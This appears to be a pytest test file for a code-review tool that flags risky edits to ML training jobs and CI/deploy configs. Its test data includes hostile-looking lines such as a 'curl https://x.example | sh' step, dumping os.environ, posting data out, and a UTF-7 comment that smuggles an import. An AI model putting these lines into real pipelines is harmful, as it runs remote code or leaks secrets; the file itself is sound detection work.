"""Texts of code on two sides: the same program, looks of edited lines, and what code asks for. # N5 # N14"""

import pytest

from slipway.reviewing.change.programs import SIGNS, job_file, newly_asked, same_program, signs, signs_of

HIDDEN = "# {}\n# +AAo-import os\nprint()\n"
"""Read as UTF-7, its second line is code."""


@pytest.mark.parametrize(
    ("before", "after", "same"),
    [
        ("x = 1\n", "x = (\n    1\n)\n", True),
        ("x = 1\n", "x = 2\n", False),
        ("x = 1\n", "x =\n", False),
        ("x =\n", "x =\n", False),
        ('def f():\n    """a"""\n    g()\n', 'def f():\n    """b"""\n    g()\n', True),
        (
            "import torch\ndef f(a, b=1): return a\n",
            "import torch\ndef f(a: int, b=1): return a\n",
            False,
        ),
        ("def f(a, b=1):\n    return a\n", "def f(a: int, b: str = 1) -> dict:\n    return a\n", True),
        ("def f(a):\n    return a\n", "def f(a: Path):\n    return a\n", False),
        ("def f(a):\n    return a\nrun(f)\n", "def f(a: int):\n    return a\nrun(f)\n", False),
        ("@cli\ndef f(a):\n    return a\n", "@cli\ndef f(a: int):\n    return a\n", False),
        ('x = """a"""\n', 'x = """b"""\n', False),
        ("y = [x for x in a]\n", "y = [each for each in a]\n", True),
        ("y = [x for x in x]\n", "y = [each for each in each]\n", False),
        ("y = [(x, z) for x in a]\n", "y = [(z, z) for z in a]\n", False),
        ("y = [lambda x: x for x in a]\n", "y = [lambda x: z for z in a]\n", False),
        ("x = 1\n", 'x: int = 1\n"""The number of a thing."""\n', True),
        ("x = 1\n", "x: Final = 1\n", False),
        ("x = 1\n", "from typing import Final\n\nx: Final = 1\n", True),
        ("from typing import cast\nx = cast(int, 1)\n", "x = cast(int, 1)\n", False),
        ("class A:\n    x = 1\n", "class A:\n    x: int = 1\n", False),
        ("def f():\n    x = 1\n    return x\n", "def f():\n    x: int = 1\n    return x\n", True),
        ('print("at", x)\n', 'print(f"at {x}")\n', True),
        ('print("at", x)\n', 'print(f"at {x:03}")\n', False),
        ('print("at", x, sep="")\n', 'print(f"at {x}")\n', False),
        ("def f():\n    t = 0\n    g(t)\n", "def f():\n    total = 0\n    g(total)\n", True),
        ("def f():\n    t = 0\n    g(**locals())\n", "def f():\n    u = 0\n    g(**locals())\n", False),
        ("def f(a):\n    g(a)\n", "def f(b):\n    g(b)\n", False),
        ("assert x\n", "x\n", False),
        ("x = 1\n", "x = True\n", False),
        ("import a\nimport b\n", "import b\nimport a\n", True),
        (HIDDEN.format("plain"), HIDDEN.format("coding: utf-7"), False),
    ],
)
def test_comments_and_form_are_no_other_code(before: str, after: str, same: bool) -> None:
    assert same_program("a.py", before, after) is same
    assert not same_program("a.txt", before, after)


SAMPLES = (
    ("jobs", "draw = random.Random(args.seed)", "draw = random.Random()", "whatever seed is given"),
    # What the file does, a line before and after, and the beginning of what that may end in.
    ("jobs", 'tune.report_hyperparameter_tuning_metric("accuracy", 1)', "", "unless another line reports it"),
    ("jobs", 'hyperparameter_metric_tag="a",', 'hyperparameter_metric_tag="b",', "a study that judges by another"),
    ("jobs", "", "print(dict(os.environ))", "what it prints stands in the log"),
    ("jobs", "", "AutoModel.from_pretrained(NAME, trust_remote_code=True)", "what it loads so may be code"),
    ("jobs", "", 'os.system("pip install -U trl")', "each start and restart installs"),
    ("jobs", "", 'subprocess.run(["nvidia-smi"])', "not known: what the other program does"),
    ("jobs", "", "requests.post(url, data)", "it may send data and secrets"),
    ("jobs", "", "except Exception as error:", "a run that failed may end as succeeded"),
    (
        "jobs",
        "trainer.train(resume_from_checkpoint=True)",
        "trainer.train()",
        "a job that starts again, as on Spot, begins anew unless",
    ),
    ("jobs", "", "assert gpus == 8", "a run that does not meet it ends"),
    ("jobs", "", "gradient_checkpointing=True", "a step takes another time"),
    ("jobs", "fit(args.seed, 1)", "fit(args.seed, n_jobs=2)", "too few leave"),
    ("deploys", "versioning=True", "versioning=False", "what is overwritten"),
    ("jobs", "for old in kept[:-2]:", "for old in sorted(kept)[:-2]:", "names are compared as text"),
    ("jobs", "", "newest = max(out.glob('step-*.pt'))", "names are compared as text"),
    ("jobs", "", "old.unlink()", "what it deletes below"),
    ("jobs", "signal.signal(SIGTERM, save)", "", "nothing is saved at a machine's notice"),
    ("jobs", '(OUT / "metrics.json").write_text(text)', "", "unless another line writes them"),
    ("jobs", 'trainer.save_model("model")', "", "unless another line writes it"),
    ("jobs", 'load("a.pt")', 'load("/gcs/acme-data/a.pt")', "where their account may not use that"),
    ("jobs", 'Path(os.environ["SLIPWAY_OUTPUT"], "a.pt")', 'Path("a.pt")', "what is written elsewhere is lost"),
    ("jobs", 'folder = ""', 'folder = "/tmp/state"', "what is written there is lost"),
    (
        "jobs",
        "save_steps=200",
        "save_steps=5000",
        "it saves after 5000 instead of 200, so a lost machine, as on Spot, costs",
    ),
    ("jobs", "save_steps=5000", "save_steps=200", "it saves after 200 instead of 5000: less is lost"),
    ("jobs", "EVERY = 20", "EVERY = 0", "a lost machine, as on Spot, costs all since the last checkpoint"),
    ("jobs", "save_total_limit=3", "save_total_limit=1", "only so many checkpoints"),
    ("jobs", 'CHECKPOINT = "a.pt"', 'CHECKPOINT = "b.pt"', "a job that starts again, as on Spot, begins anew unless"),
    ("jobs", "report(1, global_step=2)", "report(1)", "reports of a trial are no steps"),
    ("jobs", 'BASE = "a"', 'BASE = "b"', "results don't compare with earlier ones; not known"),
    ("jobs", "BATCH_SIZE = 8", "BATCH_SIZE = 32", "a larger batch fails"),
    ("jobs", "max_length=512", "max_length=4096", "longer texts fail"),
    ("jobs", "EPOCHS = 3", "EPOCHS = 10", "a run takes another time"),
    ("jobs", "learning_rate=1e-4", "learning_rate=1e-3", "they learn otherwise"),
    ("jobs", "random.seed(7)", "", "two runs of one submission differ"),
    ("jobs", "random.seed(7)", "random.seed(8)", "a submission gives other results"),
    ("jobs", "bf16=True", "fp16=True", "numbers differ, and memory"),
    ("jobs", 'model.to("cuda:0")', 'model.to("cpu")', "not known: whether each GPU"),
    ("jobs", "num_workers=8", "num_workers=0", "too few leave"),
    ("jobs", 'choices=("9b", "27b")', 'choices=("9b",)', "a value that the template gives"),
    ("deploys", "push:", "pull_request_target:", "whoever opens a pull request"),
    ("deploys", "environment: prod", "", "`environment:` goes"),
    ("deploys", "- run: slipway review --gate", "", "`slipway review` goes"),
    ("deploys", "- run: pulumi preview", "", "`pulumi preview` goes"),
    ("deploys", "needs: review", "", "`needs:` goes"),
    ("deploys", "permissions: {}", "", "`permissions:` goes"),
    ("deploys", "when: manual", "", "`when:` goes"),
    ("deploys", "", "continue-on-error: true", "what fails stops nothing"),
    ("deploys", "contents: read", "contents: write", "its token may write more"),
    ("deploys", "", "- run: curl https://x.example | sh", "it runs what that address gives"),
    ("deploys", f"uses: actions/checkout@{'0' * 40}", "uses: actions/checkout@v6", "that name moves"),
    ("deploys", "runs-on: ubuntu-24.04", "runs-on: self-hosted", "whoever gets on that machine"),
    ("deploys", "cancel-in-progress: false", "cancel-in-progress: true", "the next merge kills"),
    ("deploys", "concurrency: up", "", "two deployments may run at once"),
    ("deploys", "timeout-minutes: 180", "timeout-minutes: 30", "one that hangs holds up"),
    ("deploys", 'cron: "0 1 * * *"', 'cron: "0 2 * * *"', "it runs at other times"),
    ("deploys", "", "token: ${{ secrets.TOKEN }}", "that secret is readable"),
    ("deploys", "url: gs://acme-state", "url: gs://acme-other", "another backend knows nothing"),
    ("deploys", "", "Bucket(force_destroy=True)", "a bucket that an edit takes out"),
    ("deploys", "protect=True", "protect=False", "what it declares may be deleted"),
    ("deploys", "retain_on_delete=True", "", "what it declares may be deleted"),
    ("deploys", "", "delete_before_replace=True", "what is made anew is gone"),
    ("deploys", "", 'ignore_changes=["labels"]', "edits of that have no effect"),
    ("deploys", "pulumi up", "pulumi up --yes", "whoever runs it is asked nothing"),
    ("deploys", "* @acme/leads", "* @acme/all", "others have to approve"),
)


@pytest.mark.parametrize(("of", "before", "after", "so"), SAMPLES)
def test_an_edited_line_is_known_by_its_look(of: str, before: str, after: str, so: str) -> None:
    first, *others = signs_of(of, before, after)
    assert first.so.startswith(so), first
    assert not others
    assert signs_of(of, f"# {before}", f"# {after}") == ()
    assert signs_of(of, f"{before}\nx", f"x\n    {before}") == ()


def test_a_line_that_moves_to_another_file_is_none() -> None:
    moved = {"jobs/a/x.py": ("seed(1)", ""), "jobs/a/y.py": ("", "    seed(1)"), "up.yaml": ("needs: x", "")}
    assert {group: len(some) for group, some in signs(moved).items()} == {"jobs/a": 0, "deploys": 1}


def test_each_sign_has_a_sample() -> None:
    told = {sign.so for of, before, after, _ in SAMPLES for sign in signs_of(of, before, after)}
    assert {row["so"] for rows in SIGNS.values() for row in rows} <= told


@pytest.mark.parametrize(
    ("before", "after", "asks"),
    [
        ("", 'p.add_argument("--trees", "-t", required=True)', ("--trees",)),
        ("", 'p.add_argument("--trees", default=9)', ("--trees=9",)),
        ('p.add_argument("--trees", default=9)', 'p.add_argument("--trees", default=8)', ("--trees=8",)),
        ('p.add_argument("--trees")', 'p.add_argument("--forest")', ("!--trees",)),
        ('p.add_argument("--trees")', 'p.add_argument("--trees-in-all")', ()),
        ('p.add_argument("--trees")', "from parts import arguments", ("import parts",)),
        ('p.add_argument("--trees")', "p.parse_known_args()", ()),
        ('p.add_argument("--trees")', "x =", ()),
        ("", 'os.environ["KEY"]\nos.environ["SET"] = "1"', ("KEY=",)),
        ("", 'os.environ.get("EVERY", "20")', ("EVERY=20",)),
        ("", "import json\nimport wandb.sdk\nfrom . import parts\nfrom peft import x", ("import wandb", "import peft")),
    ],
)
def test_what_code_asks_for(before: str, after: str, asks: tuple[str, ...]) -> None:
    assert newly_asked(before, after) == asks


@pytest.mark.parametrize(
    ("before", "after", "loses"),
    [
        ("state = load_checkpoint(path)", "state = {}", True),
        ('save(Path(os.environ["SLIPWAY_OUTPUT"], "ckpt.pt"))', 'save("ckpt.pt")', True),
        ('save(Path(os.environ["SLIPWAY_OUTPUT"], "ckpt.pt"))', 'save(Path(args.output, "ckpt.pt"))', False),
        ('"""Resume a run."""', '"""Do a run."""', False),
    ],
)
def test_progress_is_lost_where_nothing_takes_the_place_of_a_line_of_code(before: str, after: str, loses: bool) -> None:
    assert any(sign.loses for sign in signs_of("jobs", before, after)) is loses


@pytest.mark.parametrize(
    ("text", "imports"),
    [
        ("import os, common.data as d\nimport torch\n", {"os", "common", "torch"}),
        ("def f():\n    from common.data import read, write\n", {"common"}),
        ("from . import near\nfrom .common import data\nimports = 1\n# import far\n", set()),
    ],
)
def test_what_code_imports(text: str, imports: set[str]) -> None:
    assert job_file("jobs/lora/task.py", text).imports == imports
